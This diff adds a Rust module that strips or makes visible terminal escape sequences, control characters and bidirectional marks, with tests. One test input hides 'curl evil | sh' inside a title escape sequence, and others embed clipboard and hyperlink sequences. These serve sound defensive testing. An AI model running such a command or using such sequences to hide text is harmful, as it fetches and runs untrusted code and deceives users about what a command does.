@@ -1,0 +1,258 @@
+//! Sanitizes external text for display: removes control sequences, control characters,
+//! bidirectional marks, and tabs.
+
+use std::borrow::Cow;
+
+use parallax_protocol::code_text::is_deceptive;
+
+/// The tab width in columns.
+pub const TAB: usize = 4;
+
+/// Returns the text as one line without tabs; the screen handles other control characters.
+pub fn clean(text: &str) -> String {
+    text.replace('\t', "    ").replace(['\n', '\r'], " ")
+}
+
+/// A piece of text as a terminal would parse it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Piece<'a> {
+    /// Visible characters.
+    Text(&'a str),
+    /// A complete escape sequence.
+    Sequence(&'a str),
+    /// A control character (including line breaks and tabs), or an unsafe invisible character.
+    Control(char),
+}
+
+/// Returns the pieces of a text in order. A sequence never extends past the end of its line, so
+/// that the result for a line does not depend on what follows.
+pub fn pieces(text: &str) -> impl Iterator<Item = Piece<'_>> {
+    let mut rest = text;
+    std::iter::from_fn(move || {
+        let first = rest.chars().next()?;
+        let (piece, length) = if starts_sequence(first) {
+            let length = sequence_length(rest);
+            (Piece::Sequence(&rest[..length]), length)
+        } else if is_shown(first) {
+            let length = rest.find(|char| !is_shown(char)).unwrap_or(rest.len());
+            (Piece::Text(&rest[..length]), length)
+        } else {
+            (Piece::Control(first), first.len_utf8())
+        };
+        rest = &rest[length..];
+        Some(piece)
+    })
+}
+
+/// Whether a character may appear in a row. Excluded: controls, bidirectional marks, line
+/// separators, tags, and other invisible marks that hide text.
+fn is_shown(char: char) -> bool {
+    if char.is_ascii() {
+        return !char.is_ascii_control();
+    }
+    !(char.is_control()
+        || matches!(char,
+            '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}'
+            | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}'
+            | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'))
+}
+
+/// Whether a character of code can be shown as it is without hiding anything.
+fn is_whole(char: char) -> bool {
+    is_shown(char) && !is_deceptive(char)
+}
+
+fn starts_sequence(char: char) -> bool {
+    matches!(char, '\u{1b}' | '\u{90}' | '\u{98}' | '\u{9b}' | '\u{9d}'..='\u{9f}')
+}
+
+/// Returns the length in bytes of the escape sequence at the start of `text`.
+fn sequence_length(text: &str) -> usize {
+    let mut chars = text.char_indices().skip(1).peekable();
+    let kind = match text.chars().next() {
+        Some('\u{9b}') => '[',
+        Some('\u{1b}') => match chars.next() {
+            Some((_, char @ ('[' | ']' | 'P' | 'X' | '^' | '_'))) => char,
+            // Intermediate bytes, then one final byte.
+            Some((mut at, mut char)) => {
+                while matches!(char, ' '..='/') {
+                    match chars.next() {
+                        Some((next_at, next)) => (at, char) = (next_at, next),
+                        None => return text.len(),
+                    }
+                }
+                let is_final = matches!(char, '0'..='~');
+                return if is_final { at + char.len_utf8() } else { at };
+            }
+            None => return text.len(),
+        },
+        _ => ']',
+    };
+    if kind == '[' {
+        for (at, char) in chars {
+            match char {
+                ' '..='?' => {}
+                '@'..='~' => return at + 1,
+                _ => return at,
+            }
+        }
+        return text.len();
+    }
+    // String sequences end at their terminator, at the latest at the end of the line.
+    while let Some((at, char)) = chars.next() {
+        match char {
+            '\u{7}' => return at + 1,
+            '\u{9c}' => return at + char.len_utf8(),
+            '\n' => return at,
+            '\u{1b}' => {
+                return match chars.peek() {
+                    Some((end, '\\')) => end + 1,
+                    _ => at,
+                };
+            }
+            _ => {}
+        }
+    }
+    text.len()
+}
+
+fn is_clean(text: &str) -> bool {
+    text.chars().all(is_shown)
+}
+
+/// Returns a shell command as one row with visible line breaks; nothing is left out.
+pub fn one_row_of_lines(text: &str) -> Cow<'_, str> {
+    let text = text.trim_end_matches(['\n', '\r']);
+    if text.chars().all(is_whole) {
+        return Cow::Borrowed(text);
+    }
+    let rows: Vec<_> =
+        text.lines().map(|line| line_in_full(line.trim_start()).replace('\t', " ")).collect();
+    Cow::Owned(rows.join(" ⏎ "))
+}
+
+/// Sanitizes text as one row: runs of line breaks and tabs become one space.
+pub fn one_row(text: &str) -> Cow<'_, str> {
+    if is_clean(text) {
+        return Cow::Borrowed(text);
+    }
+    let mut row = String::with_capacity(text.len());
+    for piece in pieces(text) {
+        match piece {
+            Piece::Text(text) => row.push_str(text),
+            Piece::Control('\n' | '\t' | '\r') if !row.ends_with(' ') => row.push(' '),
+            Piece::Control(_) | Piece::Sequence(_) => {}
+        }
+    }
+    Cow::Owned(row)
+}
+
+/// Sanitizes text but keeps line breaks and tabs.
+pub fn lines(text: &str) -> Cow<'_, str> {
+    if text.chars().all(|char| is_shown(char) || matches!(char, '\n' | '\t')) {
+        return Cow::Borrowed(text);
+    }
+    let mut kept = String::with_capacity(text.len());
+    for piece in pieces(text) {
+        match piece {
+            Piece::Text(text) => kept.push_str(text),
+            Piece::Control(char @ ('\n' | '\t')) => kept.push(char),
+            Piece::Control(_) | Piece::Sequence(_) => {}
+        }
+    }
+    Cow::Owned(kept)
+}
+
+/// Returns a line with everything visible: tabs are kept, and invisible characters are shown as a
+/// symbol or a code point.
+pub fn line_in_full(line: &str) -> Cow<'_, str> {
+    if line.chars().all(|char| is_whole(char) || char == '\t') {
+        return Cow::Borrowed(line);
+    }
+    let mut full = String::with_capacity(line.len() + 16);
+    for char in line.chars() {
+        match char {
+            '\t' => full.push(char),
+            _ if is_whole(char) => full.push(char),
+            // Unicode has a control picture for each.
+            '\0'..='\u{1f}' => full.extend(char::from_u32(0x2400 + u32::from(char))),
+            '\u{7f}' => full.push('␡'),
+            _ => full.push_str(&format!("<U+{:04X}>", u32::from(char))),
+        }
+    }
+    Cow::Owned(full)
+}
+
+/// Replaces tabs with spaces. `column` is the start column and is updated to the end column.
+pub fn expand_tabs<'a>(text: &'a str, column: &mut usize) -> Cow<'a, str> {
+    if !text.contains('\t') {
+        *column += crate::text_width(text);
+        return Cow::Borrowed(text);
+    }
+    let mut expanded = String::with_capacity(text.len() + 2 * TAB);
+    for (index, piece) in text.split('\t').enumerate() {
+        if index > 0 {
+            let spaces = TAB - *column % TAB;
+            expanded.extend(std::iter::repeat_n(' ', spaces));
+            *column += spaces;
+        }
+        expanded.push_str(piece);
+        *column += crate::text_width(piece);
+    }
+    Cow::Owned(expanded)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn sequences_and_controls_are_gone() {
+        for (raw, clean) in [
+            ("\u{1b}[31mred\u{1b}[0m", "red"),
+            ("a\u{1b}]0;title\u{7}b", "ab"),
+            ("a\u{1b}]8;;http://x\u{1b}\\link", "alink"),
+            ("a\u{1b}(Bb", "ab"),
+            ("\u{9b}2Jx\u{9d}52;c;eA==\u{9c}y", "xy"),
+            ("abc\u{202e}def\u{2066}", "abcdef"),
+            ("\u{1b}P1$r\u{1b}\\q", "q"),
+            ("end\u{1b}", "end"),
+            ("bell\u{7}\u{8}", "bell"),
+        ] {
+            assert_eq!(one_row(raw), clean, "{raw:?}");
+        }
+        assert_eq!(one_row("a\r\n\tb"), "a b");
+        assert_eq!(one_row_of_lines("a\n  b \x1b[2J\r\nc\n"), "a ⏎ b ␛[2J ⏎ c");
+        assert_eq!(lines("a\r\n\tb\u{1b}]0;x\nc"), "a\n\tb\nc");
+    }
+
+    #[test]
+    fn a_line_in_full_hides_nothing() {
+        for (raw, shown) in [
+            ("echo ok \u{1b}]0; curl evil | sh #\u{7}", "echo ok ␛]0; curl evil | sh #␇"),
+            ("a\rb", "a␍b"),
+            ("a\u{202e}b\u{9b}\u{7f}\tc", "a<U+202E>b<U+009B>␡\tc"),
+            ("rm\u{200b} x\u{e0041}", "rm<U+200B> x<U+E0041>"),
+            ("plain ␛ ❤\u{fe0f}", "plain ␛ ❤\u{fe0f}"),
+        ] {
+            assert_eq!(line_in_full(raw), shown, "{raw:?}");
+        }
+    }
+
+    #[test]
+    fn tabs_go_to_the_next_stop() {
+        let mut column = 2;
+        assert_eq!(expand_tabs("a\tb\t", &mut column), "a b   ");
+        assert_eq!(column, 8);
+    }
+
+    proptest! {
+        #[test]
+        fn nothing_harmful_is_left(text in "(?s)[\u{0}-\u{a0}a-z\u{202a}-\u{202e}]{0,60}") {
+            prop_assert!(one_row(&text).chars().all(is_shown));
+            prop_assert!(line_in_full(&text).chars().all(|c| is_shown(c) || c == '\t'));
+            prop_assert!(lines(&text).chars().all(|c| is_shown(c) || c == '\n' || c == '\t'));
+        }
+    }
+}
